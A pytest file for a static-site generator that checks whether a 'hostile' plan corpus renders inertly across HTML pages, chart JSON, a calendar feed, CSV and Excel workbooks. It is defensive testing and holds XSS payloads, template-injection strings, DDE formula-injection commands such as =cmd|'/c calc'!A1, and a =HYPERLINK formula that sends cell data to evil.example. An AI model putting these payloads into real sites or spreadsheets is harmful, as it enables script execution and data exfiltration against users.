"""The hostile corpus (tests/hostile/): no text from a plan runs as HTML, script, template or formula."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from icalendar import Calendar

from tests.conftest import ROOT

CORPUS = ROOT / "tests" / "hostile"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    project = tmp_path_factory.mktemp("hostile")
    shutil.copytree(CORPUS, project, dirs_exist_ok=True)
    build(load_config(str(project / "mkdocs.yml")))
    return project / "site"


def pages(site: Path) -> list[Path]:
    return [
        *sorted(p for p in (site / "hostile").rglob("index.html")),
        site / "plans" / "index.html",
    ]


def live_markup(page: Path) -> list[str]:
    """What of a page could run or call out: handlers, script addresses, outside images, frames,
    scripts that are not our chart data. The theme's own markup has none of these."""
    found = []
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    for script in soup.find_all("script"):
        text = script.string or ""
        if script.get("type") == "application/json":
            if "</" in text or "<!--" in text:
                found.append(f"script data closes itself: {text[:60]}")
        elif "alert(" in text:
            found.append(f"script: {text[:60]}")
    for element in soup.find_all(True):
        for attribute, value in element.attrs.items():
            joined = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.lower().startswith("on") and "alert" in joined:
                found.append(f"handler {attribute} on <{element.name}>")
            if attribute in {"href", "src", "action", "formaction", "xlink:href"}:
                compact = re.sub(r"[\x00-\x20\x7f-\x9f]+", "", html.unescape(joined)).lower()
                if compact.startswith(("javascript:", "vbscript:", "data:")):
                    found.append(f"{attribute}={joined[:40]} on <{element.name}>")
            if attribute == "title" and "<" in joined:
                found.append(f"markup in a title: {joined[:60]}")
    found += [f"<{e.name}>" for e in soup.find_all(["iframe", "object", "embed"])]
    for image in soup.find_all("img"):
        src = str(image.get("src", ""))
        if src == "x" or src.startswith(("http:", "https:", "//")):
            found.append(f"image {src}")
    return found


def test_no_markup_from_the_plan_is_live(hostile_site: Path) -> None:
    checked = 0
    for page in pages(hostile_site):
        assert live_markup(page) == [], page
        checked += 1
    assert checked > 10


def test_a_line_separator_in_a_title_stays_text(hostile_site: Path) -> None:
    """U+2028 once ended the front matter and let MkDocs read the title as Markdown with
    attr_list: an `<img onerror>` on nine pages."""
    page = hostile_site / "hostile/actions/visite/index.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    assert soup.h1.get_text() == "Visit ![ ](data:,){: onerror=alert(document.domain)} --- x"
    assert "onerror" not in str(soup.select_one("article").find_all("img"))
    assert soup.title.get_text().startswith("Visit ![ ](data:,){: onerror=")


def test_disguised_script_links_are_dead_and_outside_images_are_links(
    hostile_site: Path,
) -> None:
    soup = BeautifulSoup(
        (hostile_site / "hostile/actions/visite/index.html").read_text(encoding="utf-8"),
        "html.parser",
    )
    text = soup.select_one("table.pacsite-fiveq")
    links = {a.get_text(): a.get("href") for a in text.find_all("a")}
    assert links["CRM"] is None and links["ref"] is None and links["dec"] is None
    assert links["tab"] is None
    assert links["t"] == "https://example.com"
    assert text.find("a", string="t")["title"] == "x"  # the markup of the title is gone
    assert links["pixel"] == "https://tracker.example/pixel.png" and not text.find_all("img")


def test_texts_are_shown_as_text(hostile_site: Path) -> None:
    segment = BeautifulSoup(
        (hostile_site / "hostile/segments/seg/index.html").read_text(encoding="utf-8"),
        "html.parser",
    )
    assert segment.h1.get_text() == 'Segment <script>alert("segment")</script>'
    cells = [li.get_text() for li in segment.select("table.pacsite-swot li")]
    assert cells[:3] == [
        '<script>alert("swot")</script>',
        "{{ 7*7 }}",
        '"><svg onload=alert("opp")>',
    ]
    dashboard = BeautifulSoup(
        (hostile_site / "hostile/index.html").read_text(encoding="utf-8"), "html.parser"
    )
    assert dashboard.h1.get_text() == 'Plan <script>alert("title")</script> {{ 7*7 }}'
    assert "=HYPERLINK(" in dashboard.select_one("table.pacsite-objectives").get_text()
    strategy = BeautifulSoup(
        (hostile_site / "hostile/strategy/index.html").read_text(encoding="utf-8"), "html.parser"
    )
    summary = strategy.select_one(".pacsite-text")
    assert summary.strong.get_text() == "Gras"  # Markdown is rendered...
    assert '<script>alert("summary")</script>' in summary.get_text()  # ...raw HTML is text
    assert [a.get("href") for a in summary.find_all("a")] == [None]  # the javascript: link is dead


def test_titles_given_to_the_theme_are_escaped(hostile_site: Path) -> None:
    raw = (hostile_site / "hostile/actions/act/index.html").read_text(encoding="utf-8")
    assert '<script>alert("action")</script>' not in raw
    soup = BeautifulSoup(raw, "html.parser")
    assert 'Appeler <script>alert("action")</script>' in soup.title.get_text()


def test_chart_json_cannot_close_its_script(hostile_site: Path) -> None:
    raw = (hostile_site / "hostile/kpis/index.html").read_text(encoding="utf-8")
    blocks = re.findall(r'<script type="application/json">(.*?)</script>', raw, flags=re.S)
    assert blocks and all("<" not in b and "\u2028" not in b for b in blocks)
    import json

    figures = [json.loads(b)[0] for b in blocks]
    titles = [f["layout"]["title"]["text"] for f in figures]
    assert (
        "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Ventes&#34;) "
        "&lt;/script&gt;&lt;script&gt;alert(&#34;kpi&#34;)&lt;/script&gt;" in titles
    )
    notes = [
        c for f in figures for t in f["data"] for c in t.get("customdata", []) if isinstance(c, str)
    ]
    assert any("&lt;script&gt;" in n for n in notes) and not any("<script>" in n for n in notes)


def test_calendar_feed_and_csv_are_inert(hostile_site: Path) -> None:
    feed = Calendar.from_ical((hostile_site / "hostile/calendar.ics").read_bytes())
    [event] = [e for e in feed.walk("VEVENT") if str(e["uid"]).startswith("hostile.act@")]
    assert str(event["summary"]) == 'Appeler <script>alert("action")</script> =cmd|"/c calc"!A1'
    rows = list(
        csv.reader(
            io.StringIO((hostile_site / "hostile/actions.csv").read_bytes().decode("utf-8-sig")),
            delimiter=";",
        )
    )
    cells = [c for row in rows[1:] for c in row]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
    assert '\'+cmd|"/c calc"!A0' in cells


def _workbook_cells(data: bytes) -> list[tuple[str, str, object, str]]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        (ws.title, cell.coordinate, cell.value, cell.data_type)
        for ws in book
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_no_text_of_a_plan_is_a_formula_in_any_workbook(
    hostile_site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every sheet of every workbook pacsite writes — the site's, `pacsite export`'s and the
    template — opened with openpyxl: no cell is a formula, and the plan's `=HYPERLINK(…)`,
    `+cmd|…` and `@SUM(…)` texts are there as text."""
    from pacsite.cli import main

    books = {p.name: p.read_bytes() for p in hostile_site.rglob("*.xlsx")}
    assert books, "the site offers the plan as a workbook"
    project = hostile_site.parent
    monkeypatch.chdir(project)
    assert main(["export", "hostile", str(tmp_path / "export.xlsx")]) == 0
    books["export"] = (tmp_path / "export.xlsx").read_bytes()
    assert main(["template", "xlsx", str(tmp_path / "template.xlsx")]) == 0
    books["template"] = (tmp_path / "template.xlsx").read_bytes()
    for name, data in books.items():
        cells = _workbook_cells(data)
        formulas = [c for c in cells if c[3] == "f" or (str(c[2]).startswith("=") and c[3] != "s")]
        assert formulas == [], name
    export = _workbook_cells(books["export"])
    texts = {(sheet, str(value)) for sheet, _, value, kind in export if kind == "s"}
    sheets = {sheet for sheet, value in texts if value.startswith('=HYPERLINK("http://evil')}
    assert {"Indicateurs", "Indicateurs par période", "Alertes"} <= sheets, sheets
    assert any(value.startswith("+cmd|") for _, value in texts)
    assert any("@SUM(1+1)" in value for _, value in texts)
